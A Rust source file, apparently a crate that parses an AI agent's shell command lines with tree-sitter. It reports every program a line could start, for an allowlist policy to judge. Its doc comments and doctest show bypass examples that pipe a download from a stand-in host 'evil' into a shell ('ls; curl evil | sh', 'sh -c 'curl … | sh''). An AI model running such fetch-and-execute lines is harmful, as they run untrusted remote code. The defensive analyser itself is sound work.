//! What a shell command line would run, for policy to decide on.
//!
//! An agent's `exec` call carries a command line. Judging it by its first
//! word is how allowlists get bypassed (`ls; curl evil | sh`, `env curl`,
//! `sh -c 'curl …'`, `echo $(curl …)`). [`analyze`] parses the line with
//! tree-sitter's bash grammar and reports **every** program it could start:
//! in pipelines, `&&`/`||`/`;` lists, subshells, brace groups, control flow,
//! command and process substitutions, and behind wrappers — `env`, `sudo`,
//! `timeout`, `nice`, `xargs`, `find -exec`, `sh -c '…'` (parsed in turn),
//! `eval` — plus every redirection and its target.
//!
//! What cannot be known from the text is said so rather than guessed:
//! a command name that comes from an expansion (`$CMD`, `"$(…)"`) sets
//! [`Analysis::dynamic`]; interpreters given code inline (`python -c`,
//! `node -e`, …) are listed in [`Analysis::inline_code`]. A policy should
//! treat both as "could run anything". A line that does not parse is an
//! error, never a partial answer.
//!
//! ```
//! let a = warrant_command::analyze("env -i sh -c 'curl -s x | sh' > /dev/null").unwrap();
//! assert_eq!(a.program_names(), ["env", "sh", "curl", "sh"]);
//! assert_eq!(a.redirects[0].target.as_deref(), Some("/dev/null"));
//! ```
//!
//! The crate is pure: no I/O, no environment, no execution.

mod builtins;
mod environment;
mod interpreters;
mod stdin;
mod wrappers;

use serde::Serialize;
use tree_sitter::{Node, Parser};

use crate::environment::Role;
use crate::interpreters::Code;
use crate::stdin::Stdin;
use crate::wrappers::Inner;

/// The longest command line analysed, in bytes.
pub const MAX_COMMAND_BYTES: usize = 64 * 1024;
/// How deeply `sh -c` / `eval` strings are parsed in turn.
pub const MAX_NESTING: usize = 8;
/// The most programs reported for one line.
pub const MAX_PROGRAMS: usize = 1024;

/// Why a command line could not be analysed.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum CommandError {
    #[error("the command is {0} bytes, over the {MAX_COMMAND_BYTES}-byte limit")]
    TooLong(usize),
    #[error("the command is empty")]
    Empty,
    #[error("the command is not valid shell syntax near byte {0}")]
    Syntax(usize),
    #[error("the command nests `sh -c` or `eval` deeper than {MAX_NESTING} levels")]
    TooDeep,
    #[error("the command starts more than {MAX_PROGRAMS} programs")]
    TooMany,
    #[error("the shell parser is unavailable: {0}")]
    Parser(String),
}

/// One program the command line could start.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Invocation {
    /// The last path component of the program, e.g. `curl` for `/usr/bin/curl`.
    pub program: String,
    /// The program as written.
    pub path: String,
    /// Its arguments as literals; an argument built from an expansion is
    /// `None`.
    pub args: Vec<Option<String>>,
    /// The wrappers it was found behind, outermost first (`["env", "sh -c"]`).
    pub via: Vec<String>,
}

/// What a redirection does to its target.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum RedirectKind {
    /// `<`, `<<`, `<<<`
    Read,
    /// `>`, `>|`, `&>`
    Write,
    /// `>>`, `&>>`
    Append,
    /// `<>`
    ReadWrite,
    /// `>&`, `<&` (duplicating a descriptor or, with a word, writing a file)
    Duplicate,
}

/// One redirection.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Redirect {
    pub kind: RedirectKind,
    /// The operator as written, e.g. `2>>`.
    pub operator: String,
    /// The target as a literal; `None` for a here-document or an expansion.
    pub target: Option<String>,
}

/// Everything a command line could start and touch by redirection.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct Analysis {
    /// Every program, in source order (wrappers included, then what they
    /// wrap).
    pub programs: Vec<Invocation>,
    pub redirects: Vec<Redirect>,
    /// Some command name is not a literal: what runs is decided at run time.
    pub dynamic: bool,
    /// Programs given code inline (`python -c`, `node -e`, `perl -e`, …):
    /// the code is not analysed.
    pub inline_code: Vec<String>,
}

impl Analysis {
    /// The program names, in order, with repeats.
    pub fn program_names(&self) -> Vec<&str> {
        self.programs.iter().map(|p| p.program.as_str()).collect()
    }

    /// Literal targets written or appended to (including `&>`, `>&FILE`).
    pub fn written(&self) -> Vec<&str> {
        self.redirects
            .iter()
            .filter(|r| {
                matches!(
                    r.kind,
                    RedirectKind::Write | RedirectKind::Append | RedirectKind::ReadWrite
                ) || (r.kind == RedirectKind::Duplicate
                    && r.target.as_deref().is_some_and(|t| t.parse::<u32>().is_err() && t != "-"))
            })
            .filter_map(|r| r.target.as_deref())
            .collect()
    }
}

/// Analyses `command` as bash would parse it.
pub fn analyze(command: &str) -> Result<Analysis, CommandError> {
    if command.len() > MAX_COMMAND_BYTES {
        return Err(CommandError::TooLong(command.len()));
    }
    if command.trim().is_empty() {
        return Err(CommandError::Empty);
    }
    let mut walker = Walker { analysis: Analysis::default(), depth: 0 };
    walker.script(command, &[])?;
    if walker.analysis.programs.is_empty() && !walker.analysis.dynamic {
        // Only assignments or redirections: nothing runs, but say so
        // explicitly rather than returning an empty answer by accident.
        walker.analysis.programs.clear();
    }
    Ok(walker.analysis)
}

struct Walker {
    analysis: Analysis,
    depth: usize,
}

impl Walker {
    /// Parses `source` and walks it; `via` are the wrappers around it.
    fn script(&mut self, source: &str, via: &[String]) -> Result<(), CommandError> {
        if self.depth > MAX_NESTING {
            return Err(CommandError::TooDeep);
        }
        let mut parser = Parser::new();
        parser
            .set_language(&tree_sitter_bash::LANGUAGE.into())
            .map_err(|e| CommandError::Parser(e.to_string()))?;
        let tree = parser.parse(source, None).ok_or(CommandError::Syntax(0))?;
        let root = tree.root_node();
        if let Some(bad) = first_error(root) {
            return Err(CommandError::Syntax(bad));
        }
        self.depth += 1;
        let walked = self.node(root, source, via);
        self.depth -= 1;
        walked
    }

    /// Walks every node; commands and redirections are recorded, and
    /// everything else is descended into, so substitutions anywhere (in
    /// arguments, strings, assignments, conditions) are found.
    fn node(&mut self, node: Node<'_>, src: &str, via: &[String]) -> Result<(), CommandError> {
        match node.kind() {
            "command" => return self.command(node, src, via),
            "file_redirect" | "heredoc_redirect" | "herestring_redirect" => {
                self.redirect(node, src, via)?;
            }
            "variable_assignment" => self.assignment(node, src, via)?,
            _ => {}
        }
        let mut cursor = node.walk();
        for child in node.children(&mut cursor) {
            self.node(child, src, via)?;
        }
        Ok(())
    }

    fn command(&mut self, node: Node<'_>, src: &str, via: &[String]) -> Result<(), CommandError> {
        // Substitutions and redirections in any part of the command first:
        // they run (or open) before the command itself.
        let mut cursor = node.walk();
        for child in node.children(&mut cursor) {
            if child.kind() != "command_name" {
                self.nested_only(child, src, via)?;
            }
        }
        let Some(name) = node.child_by_field_name("name") else {
            return Ok(()); // assignments only
        };
        self.nested_only(name, src, via)?;
        let mut words = vec![literal(name, src)];
        let mut cursor = node.walk();
        for arg in node.children_by_field_name("argument", &mut cursor) {
            words.push(literal(arg, src));
        }
        let stdin = stdin::of_command(node, src);
        self.invocation(&words, via, &stdin)
    }

    /// Records redirections and commands inside `node` (substitutions)
    /// without treating `node` itself as a command word.
    fn nested_only(
        &mut self,
        node: Node<'_>,
        src: &str,
        via: &[String],
    ) -> Result<(), CommandError> {
        let mut cursor = node.walk();
        match node.kind() {
            // Substitutions, and statements the grammar hangs off a command
            // (`coproc (curl x)`): what they run is walked in full.
            "command_substitution"
            | "process_substitution"
            | "subshell"
            | "compound_statement"
            | "command"
            | "pipeline"
            | "list"
            | "redirected_statement" => self.node(node, src, via),
            "file_redirect"
            | "heredoc_redirect"
            | "herestring_redirect"
            | "variable_assignment" => {
                if node.kind() == "variable_assignment" {
                    self.assignment(node, src, via)?;
                } else {
                    self.redirect(node, src, via)?;
                }
                for child in node.children(&mut cursor) {
                    self.nested_only(child, src, via)?;
                }
                Ok(())
            }
            _ => {
                for child in node.children(&mut cursor) {
                    self.nested_only(child, src, via)?;
                }
                Ok(())
            }
        }
    }

    /// One program with its argument words (the first is the program),
    /// and whatever it wraps; `stdin` is what it reads on standard input.
    fn invocation(
        &mut self,
        words: &[Option<String>],
        via: &[String],
        stdin: &Stdin,
    ) -> Result<(), CommandError> {
        let Some(first) = words.first() else { return Ok(()) };
        let Some(path) = first.clone() else {
            self.analysis.dynamic = true;
            return Ok(());
        };
        if self.analysis.programs.len() >= MAX_PROGRAMS {
            return Err(CommandError::TooMany);
        }
        let program = path.rsplit('/').next().unwrap_or(&path).to_owned();
        let args: Vec<Option<String>> = words.iter().skip(1).cloned().collect();
        self.analysis.programs.push(Invocation {
            program: program.clone(),
            path,
            args: args.clone(),
            via: via.to_vec(),
        });
        self.assigned_by(&program, &args, via)?;
        match interpreters::code(&program, &args) {
            Code::None => {}
            Code::Inline => self.analysis.inline_code.push(program.clone()),
            Code::File => self.analysis.dynamic = true,
            Code::Stdin => match stdin {
                Stdin::Literal { .. } => self.analysis.inline_code.push(program.clone()),
                Stdin::Unknown => self.analysis.dynamic = true,
            },
        }
        self.inner(wrappers::unwrap(&program, &args), via, stdin)
    }

    /// What a wrapper, shell or builtin runs in turn.
    fn inner(&mut self, inner: Inner, via: &[String], stdin: &Stdin) -> Result<(), CommandError> {
        let with = |label: String| {
            let mut via = via.to_vec();
            via.push(label);
            via
        };
        match inner {
            Inner::Nothing => Ok(()),
            Inner::Dynamic => {
                self.analysis.dynamic = true;
                Ok(())
            }
            Inner::AlsoDynamic(inner) => {
                self.analysis.dynamic = true;
                self.inner(*inner, via, stdin)
            }
            Inner::Command { words, label, stdin: inherits } => {
                let stdin = if inherits { stdin } else { &Stdin::Unknown };
                self.invocation(&words, &with(label), stdin)
            }
            Inner::Commands { commands, label } => {
                let via = with(label);
                for words in commands {
                    self.invocation(&words, &via, &Stdin::Unknown)?;
                }
                Ok(())
            }
            Inner::Script { source, label } => self.script(&source, &with(label)),
            Inner::Stdin { label } => match stdin {
                Stdin::Literal { text, operator } => {
                    self.script(text, &with(format!("{label} {operator}")))
                }
                Stdin::Unknown => {
                    self.analysis.dynamic = true;
                    Ok(())
                }
            },
        }
    }

    /// A variable assignment node (`NAME=v`, `export NAME=v`, `a[i]=v`).
    fn assignment(
        &mut self,
        node: Node<'_>,
        src: &str,
        via: &[String],
    ) -> Result<(), CommandError> {
        let Some(name) = node.child_by_field_name("name") else { return Ok(()) };
        let name = match name.kind() {
            "subscript" => name.child_by_field_name("name").map_or("", |n| text(n, src)),
            _ => text(name, src),
        };
        let mut cursor = node.walk();
        let appends = node.children(&mut cursor).any(|c| c.kind() == "+=");
        let value = match node.child_by_field_name("value") {
            _ if appends => None,
            Some(value) => literal(value, src),
            None => Some(String::new()),
        };
        self.variable(name, value, via)
    }

    /// Variable `name` set to `value` (`None`: not a literal).
    fn variable(
        &mut self,
        name: &str,
        value: Option<String>,
        via: &[String],
    ) -> Result<(), CommandError> {
        match (environment::role(name), value) {
            (None, _) => Ok(()),
            (Some(Role::Command), Some(value)) => {
                let mut via = via.to_vec();
                via.push(format!("{name}="));
                self.script(&value, &via)
            }
            (Some(Role::Command | Role::Chooses), _) => {
                self.analysis.dynamic = true;
                Ok(())
            }
        }
    }

    /// Variables a program assigns: `env NAME=v`, and builtins that read a
    /// value from input into a named variable (`read PATH`).
    fn assigned_by(
        &mut self,
        program: &str,
        args: &[Option<String>],
        via: &[String],
    ) -> Result<(), CommandError> {
        if program == "env" {
            for (name, value) in environment::env_assignments(args) {
                self.variable(&name, Some(value), via)?;
            }
            return Ok(());
        }
        let named: Vec<&str> = match program {
            "printf" => args
                .windows(2)
                .filter(|w| w.first().is_some_and(|f| f.as_deref() == Some("-v")))
                .filter_map(|w| w.get(1)?.as_deref())
                .collect(),
            p if environment::ASSIGNING_BUILTINS.contains(&p) => {
                args.iter().flatten().map(String::as_str).collect()
            }
            _ => return Ok(()),
        };
        if named.iter().any(|n| environment::role(environment::named(n)).is_some()) {
            self.analysis.dynamic = true;
        }
        Ok(())
    }

    /// Commands in backticks of an expanded here-document, which the
    /// parser leaves as text: parsed in turn, or dynamic if they do not
    /// parse or a backtick is left open.
    fn here_document_backticks(
        &mut self,
        node: Node<'_>,
        src: &str,
        via: &[String],
    ) -> Result<(), CommandError> {
        let document = stdin::here_document(node, src);
        if !document.expanded {
            return Ok(());
        }
        let raw = document.raw;
        if stdin::has_lone_backtick(&raw) {
            self.analysis.dynamic = true;
        }
        for inner in stdin::backticks(&raw) {
            match self.script(&inner, via) {
                Err(CommandError::Syntax(_)) => self.analysis.dynamic = true,
                other => other?,
            }
        }
        Ok(())
    }

    fn redirect(&mut self, node: Node<'_>, src: &str, via: &[String]) -> Result<(), CommandError> {
        if node.kind() == "heredoc_redirect" {
            self.here_document_backticks(node, src, via)?;
        }
        let mut operator = String::new();
        let mut target = None;
        let mut cursor = node.walk();
        for child in node.children(&mut cursor) {
            match child.kind() {
                "file_descriptor" => operator.push_str(text(child, src)),
                "heredoc_start" | "heredoc_body" | "heredoc_end" => {}
                k if !child.is_named() && !k.is_empty() => operator.push_str(k),
                _ => {
                    if target.is_none() {
                        target = Some(literal(child, src));
                    }
                }
            }
        }
        let op = operator.trim_start_matches(|c: char| c.is_ascii_digit());
        let kind = match op {
            "<" | "<<" | "<<-" | "<<<" => RedirectKind::Read,
            ">>" | "&>>" => RedirectKind::Append,
            "<>" => RedirectKind::ReadWrite,
            ">&" | "<&" | ">&-" | "<&-" => RedirectKind::Duplicate,
            _ => RedirectKind::Write,
        };
        let target = match node.kind() {
            "heredoc_redirect" => None,
            _ => target.flatten(),
        };
        self.analysis.redirects.push(Redirect { kind, operator, target });
        Ok(())
    }
}

/// The byte offset of the first syntax error under `node`, if any.
fn first_error(node: Node<'_>) -> Option<usize> {
    if !node.has_error() {
        return None;
    }
    if node.is_error() || node.is_missing() {
        return Some(node.start_byte());
    }
    let mut cursor = node.walk();
    let found = node.children(&mut cursor).find_map(first_error);
    found.or(Some(node.start_byte()))
}

pub(crate) fn text<'s>(node: Node<'_>, src: &'s str) -> &'s str {
    src.get(node.byte_range()).unwrap_or("")
}

/// The value of a word as the shell would pass it, if it is a literal (no
/// expansion or substitution in it).
pub(crate) fn literal(node: Node<'_>, src: &str) -> Option<String> {
    match node.kind() {
        "command_name" => {
            let mut cursor = node.walk();
            let mut children = node.named_children(&mut cursor);
            let only = children.next()?;
            if children.next().is_some() {
                return None;
            }
            literal(only, src)
        }
        // An unquoted glob is replaced by the names it matches.
        "word" if has_glob(text(node, src)) => None,
        "word" | "number" => Some(unescape_bare(text(node, src))),
        "raw_string" => {
            let t = text(node, src);
            Some(t.strip_prefix('\'')?.strip_suffix('\'')?.to_owned())
        }
        "string" => {
            let mut out = String::new();
            let mut cursor = node.walk();
            for child in node.named_children(&mut cursor) {
                if child.kind() != "string_content" {
                    return None;
                }
                out.push_str(&unescape_double(text(child, src)));
            }
            Some(out)
        }
        "ansi_c_string" => {
            let t = text(node, src);
            let inner = t.strip_prefix("$'")?.strip_suffix('\'')?;
            // Escapes other than the plain ones could spell any byte; a
            // name built that way is not taken at face value.
            (!inner.contains('\\')).then(|| inner.to_owned())
        }
        "concatenation" => {
            let mut out = String::new();
            if has_brace_expansion(node, src) {
                return None;
            }
            let mut cursor = node.walk();
            for child in node.named_children(&mut cursor) {
                out.push_str(&literal(child, src)?);
            }
            Some(out)
        }
        _ => None,
    }
}

/// An unescaped `*`, `?` or `[` in an unquoted word: a pathname pattern.
fn has_glob(word: &str) -> bool {
    let mut chars = word.chars();
    while let Some(c) = chars.next() {
        match c {
            '\\' => {
                chars.next();
            }
            '*' | '?' | '[' => return true,
            _ => {}
        }
    }
    false
}

/// `{a,b}` or `{1..3}` among a concatenation's unquoted words: the shell
/// turns it into several words (`cu{r,}l` is `curl cul`).
fn has_brace_expansion(node: Node<'_>, src: &str) -> bool {
    let mut open = false;
    let mut list = false;
    let mut cursor = node.walk();
    for child in node.named_children(&mut cursor) {
        let t = text(child, src);
        match (child.kind(), t) {
            ("word", "{") => (open, list) = (true, false),
            ("word", "}") if open && list => return true,
            ("word", t) if open => list |= t.contains(',') || t.contains(".."),
            _ => {}
        }
    }
    false
}

/// An unquoted word: a backslash keeps the next character (and a
/// backslash-newline disappears).
fn unescape_bare(word: &str) -> String {
    let mut out = String::with_capacity(word.len());
    let mut chars = word.chars();
    while let Some(c) = chars.next() {
        if c == '\\' {
            match chars.next() {
                Some('\n') | None => {}
                Some(next) => out.push(next),
            }
        } else {
            out.push(c);
        }
    }
    out
}

/// Inside double quotes, a backslash escapes only `$`, `` ` ``, `"`, `\`
/// and newline.
fn unescape_double(content: &str) -> String {
    let mut out = String::with_capacity(content.len());
    let mut chars = content.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '\\' {
            match chars.peek() {
                Some('$' | '`' | '"' | '\\') => {
                    if let Some(next) = chars.next() {
                        out.push(next);
                    }
                }
                Some('\n') => {
                    chars.next();
                }
                _ => out.push(c),
            }
        } else {
            out.push(c);
        }
    }
    out
}
